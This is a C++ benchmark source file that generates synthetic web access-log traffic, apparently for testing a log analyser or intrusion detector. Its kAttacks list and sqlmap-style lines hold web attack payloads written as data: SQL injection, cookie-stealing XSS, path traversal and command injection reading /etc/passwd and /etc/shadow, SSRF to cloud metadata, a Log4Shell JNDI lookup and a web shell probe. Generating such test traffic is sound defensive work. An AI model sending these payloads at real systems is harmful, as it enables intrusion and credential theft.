#include "tests/bench/access_traffic.h"

#include <fmt/chrono.h>
#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <ctime>
#include <iterator>
#include <string_view>

namespace picket::bench {
namespace {

constexpr std::time_t kBegin = 1'767'607'200;  // 5 January 2026
constexpr std::size_t kClients = 20'000;

constexpr auto kPages = std::to_array<std::string_view>({
    "/",
    "/index.html",
    "/cart",
    "/checkout",
    "/account/orders",
    "/about-us",
    "/robots.txt",
    "/favicon.ico",
    "/help/returns-and-refunds",
    "/blog/2026/how-to-select-a-plan",
    "/static/css/main.3f9a1c.css",
    "/static/js/app.77b0de12.js",
    "/static/js/vendor~checkout.0a1b2c.chunk.js",
    "/fonts/inter-var-latin.woff2",
});
/// With a number after them.
constexpr auto kNumbered = std::to_array<std::string_view>({
    "/product/",
    "/static/img/products/large/photo-",
    "/api/v2/stock/",
    "/category/garden-and-tools/page/",
    "/api/v2/orders?per_page=50&sort=-created_at&page=",
    "/search?lang=en&q=garden+table+oak&page=",
    "/search?q=caf%C3%A9+cr%C3%A8me&filter%5Bcolor%5D=dark%20blue&from=",
    "/product?utm_source=newsletter&utm_medium=email&utm_campaign=winter_sale&id=",
    "/login?next=%2Faccount%2Forders%3Fpage%3D2&attempt=",
});
constexpr auto kAgents = std::to_array<std::string_view>({
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/7.88.1",
    "okhttp/4.12.0",
    "-",
});
constexpr auto kReferers = std::to_array<std::string_view>({
    "-",
    "-",
    "https://www.example.com/",
    "https://www.google.com/",
    "https://www.example.com/search?q=garden+table",
    "https://www.example.com/category/garden-and-tools/page/3",
    "https://l.example.org/?u=https%3A%2F%2Fwww.example.com%2F",
});
constexpr auto kAttacks = std::to_array<std::string_view>({
    "/product?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/cgi-bin/status?host=127.0.0.1;cat%20/etc/shadow",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/fetch?url=http://169.254.169.254/latest/meta-data/iam/",
    "/api/v2/users?filter[$ne]=1",
    "/?x=${jndi:ldap://192.0.2.66/a}",
    "/hello?name={{7*7}}{{config.items()}}",
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/shell.php?cmd=id",
});

/// Few visitors make most of the requests.
std::size_t skewed(std::size_t random, std::size_t count) {
  const std::size_t place = random % (count * count);
  return place / count * (place % count) / count;
}

}  // namespace

AccessTraffic::AccessTraffic(TrafficOptions options) : options_(options) {}

const std::string& AccessTraffic::stamp() {
  const std::uint64_t second = lines_ / static_cast<std::uint64_t>(options_.lines_per_second);
  if (stamp_.empty() || second != stamped_)
    stamp_ =
        fmt::format("{:%d/%b/%Y:%H:%M:%S} +0000", fmt::gmtime(kBegin + static_cast<std::time_t>(second)));
  stamped_ = second;
  return stamp_;
}

void AccessTraffic::append_client(std::string& text) {
  const std::size_t client = skewed(random_(), kClients);
  fmt::format_to(std::back_inserter(text), "10.{}.{}.{} - - [{}] \"", client % 7, client / 250 % 250,
                 client % 250, stamp());
}

void AccessTraffic::append_usual(std::string& text) {
  append_client(text);
  text += below(10) == 0 ? "POST " : "GET ";
  const std::size_t page = below(kPages.size() + 2 * kNumbered.size());
  if (page < kPages.size()) {
    text += kPages.at(page);
  } else {
    fmt::format_to(std::back_inserter(text), "{}{}", kNumbered.at((page - kPages.size()) / 2), below(5000));
  }
  constexpr std::array kStatus{200, 200, 200, 200, 200, 200, 200, 304, 302, 404};
  const std::size_t agent = skewed(random_(), kAgents.size());
  fmt::format_to(std::back_inserter(text), " HTTP/1.1\" {} {} \"{}\" \"{}\"\n",
                 kStatus.at(below(kStatus.size())), below(60'000), kReferers.at(below(kReferers.size())),
                 kAgents.at(agent));
}

void AccessTraffic::append_hostile(std::string& text) {
  append_client(text);
  fmt::format_to(std::back_inserter(text), "GET {} HTTP/1.1\" {} {} \"-\" \"{}\"\n",
                 kAttacks.at(below(kAttacks.size())), below(4) == 0 ? 200 : 404, below(5'000),
                 kAgents.at(skewed(random_(), kAgents.size())));
}

void AccessTraffic::append_unique(std::string& text) {
  const std::uint64_t n = lines_;
  fmt::format_to(std::back_inserter(text),
                 "{}.{}.{}.{} - - [{}] \"GET /item-{:x}?p{}={}'+OR+{}={}-- HTTP/1.1\" {} 512 "
                 "\"https://site-{}.example/\" \"agent-{:x} sqlmap/1.{}\"\n",
                 11 + n / 16'777'216, n / 65'536 % 256, n / 256 % 256, n % 256, stamp(), n * 2'654'435'761U,
                 n, n, n, n, n % 3 == 0 ? 200 : 404, n, n * 40'503U, n);
}

void AccessTraffic::append_line(std::string& text) {
  const auto chance = static_cast<int>(below(1000));
  if (chance < options_.unique_per_mille) {
    append_unique(text);
  } else if (chance < options_.unique_per_mille + options_.hostile_per_mille) {
    append_hostile(text);
  } else {
    append_usual(text);
  }
  ++lines_;
}

}  // namespace picket::bench
